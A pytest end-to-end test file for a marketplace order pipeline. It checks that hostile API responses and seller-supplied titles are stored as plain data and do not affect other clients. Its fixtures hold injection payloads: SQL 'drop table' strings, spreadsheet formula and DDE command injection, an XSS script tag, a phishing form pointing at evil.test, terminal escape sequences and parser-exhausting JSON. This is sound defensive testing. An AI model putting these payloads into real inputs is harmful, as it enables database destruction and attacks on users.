"""A marketplace gone bad for one client: whatever it answers, what is stored stays as it was, the other client is read,
and once it is itself again the client is too.
"""

from __future__ import annotations

import json
from datetime import date, timedelta

import pytest

from viang_pipeline.collect.work import PartialCollectionError
from viang_pipeline.failures import SourceFailure
from viang_pipeline.sandbox import Fault, World
from viang_pipeline.sources import http
from viang_pipeline_tests.end_to_end.conftest import Install, install
from viang_pipeline_tests.end_to_end.driver import Installation, stored, utc

__all__ = ["install"]

DAY = date(2026, 3, 9)
NIGHT = utc("2026-03-10T03:00:00-03:00")
BAD, GOOD = "alvo", "vizinha"

ROUTES = {"orders": "/orders/search", "listings": "/items", "visits": "*/time_window", "claims": "/post-purchase/*"}
HOSTILE = {
    "nested without end": "[" * 50_000 + "]" * 50_000,
    "an exponent without end": '{"results": [{"id": 1e99999999999999999999}], "paging": {"total": 1}}',
    "NaN": '{"results": NaN}',
    "a number of ten thousand digits": '{"results": [], "paging": {"total": ' + "9" * 10_000 + "}}",
    "wrong types": '{"results": {"$gt": ""}, "paging": "x", "data": 7, "total": []}',
    "a login page": "<!DOCTYPE html><html><form action=https://evil.test><input name=password></form></html>",
    "another sort of list": json.dumps([{"id": "'; drop table raw.mercado_livre_orders; --"}]),
    "half a pair": '{"results": "\\ud800", "paging": null}',
}


@pytest.fixture
def house(install: Install, monkeypatch: pytest.MonkeyPatch) -> Installation:
    """Two clients, both read once."""
    monkeypatch.setattr(http, "_enough", lambda attempts, seconds: lambda state: state.attempt_number >= 2)
    world = World(seed=2, start=NIGHT - timedelta(days=5))
    for slug in (BAD, GOOD):
        seller = world.add_seller(slug)
        listing = world.add_listing(seller, title="Garrafa", price=89_90, sku="GAR-1")
        order = world.place_order(seller, listing, at=NIGHT - timedelta(hours=15))
        world.pay(order, at=NIGHT - timedelta(hours=14))
    house = install(world, now=NIGHT)
    for seller in world.sellers.values():
        house.client(seller.slug, seller, DAY)
    for slug in (BAD, GOOD):
        house.night(slug, NIGHT, [DAY])
    return house


def test_whatever_is_answered_nothing_stored_changes_and_nobody_else_is_touched(house: Installation) -> None:
    before = stored(house.fingerprints())
    assert house.column("select count(*) from raw.mercado_livre_orders where client_id = %s", BAD) == [1]
    bad = house.world.seller(BAD).seller_id
    for number, (name, body) in enumerate(HOSTILE.items()):
        house.at(NIGHT + timedelta(hours=number + 1))
        for step, route in ROUTES.items() if number < 2 else [("orders", ROUTES["orders"])]:
            house.sandbox.faults.clear()
            house.sandbox.faults.add(Fault("status", path=route, status=200, body=body, seller=bad, times=None))
            said = _said(house, step)
            assert said or step != "orders", f"{name} was taken for orders"
            assert len(said.splitlines()) <= 3, name
            assert "drop table" not in said
        assert stored(house.fingerprints()) == before, name
        house.collect(GOOD, ["orders"], [DAY])
    complete = "select completo from dashboard.source_reads where client_id = %s and resource = 'orders' and dia = %s"
    assert house.column(complete, GOOD, DAY) == [True]
    house.sandbox.faults.clear()
    house.night(BAD, NIGHT + timedelta(days=1), [DAY])
    assert house.column(complete, BAD, DAY) == [True]
    assert house.client_days(BAD)[DAY]["faturamento"] == house.client_days(GOOD)[DAY]["faturamento"]


def _said(house: Installation, step: str) -> str:
    """What a reading fails with; nothing when it does not. Any other exception is raised."""
    try:
        house.collect(BAD, [step], [DAY])
    except (SourceFailure, PartialCollectionError) as failure:
        return str(failure)
    return ""


SQL = "x'; drop table dashboard.fact_sku_day cascade; -- %s %(a)s {} \\"
TITLES = {
    "sql": SQL,
    "formula": '=HYPERLINK("https://evil.test";"clique")',
    "formula with a number": "-2+3+cmd|' /C calc'!A1",
    "at": "@SUM(A1:A9)",
    "nul": "Garrafa\x00térmica",
    "markup": "[bold red]Garrafa[/] [link=https://evil.test]x[/link] <script>alert(1)</script> {{cliente|valor}}",
    "escape": "Garrafa\x1b[2J\x1b]0;dono\x07\u202e",
}


def test_texts_of_sellers_are_kept_as_data_and_join_by_their_own_spelling(install: Install) -> None:
    """Commands of a database, a spreadsheet, a console or a page as titles and SKUs: costs find them all the same."""
    world = World(seed=3, start=NIGHT - timedelta(days=5))
    seller = world.add_seller(BAD, name="Loja [bold]")
    skus = {}
    for name, text in TITLES.items():
        sku = text.replace("\x00", "")[:40].strip().upper()
        skus[name] = sku
        listing = world.add_listing(seller, title=text, price=50_00, sku=sku)
        world.pay(world.place_order(seller, listing, at=NIGHT - timedelta(hours=15)), at=NIGHT - timedelta(hours=14))
    house = install(world, now=NIGHT)
    house.client(BAD, seller, DAY)
    for sku in skus.values():
        house.told(BAD, "custo_sku", DAY, sku=sku, custo_unitario=20, custo_zero_confirmado=False)
    house.night(BAD, NIGHT, [DAY])
    rows = house.sku_days(BAD)
    for name, sku in skus.items():
        assert (DAY, sku) in rows, name
        assert rows[DAY, sku]["cmv"] == 20, name
        assert rows[DAY, sku]["faturamento"] == 50, name
    titles = house.column("select payload->>'title' from raw.mercado_livre_listings")
    assert SQL in titles
    assert "Garrafa\ufffdtérmica" in titles
    shown = house.rows("select sku, faturamento from dashboard.vw_sku_day where client_id = %s", BAD)
    assert {row["sku"] for row in shown} == set(skus.values()), "a view shows a SKU as it is: it is a key"
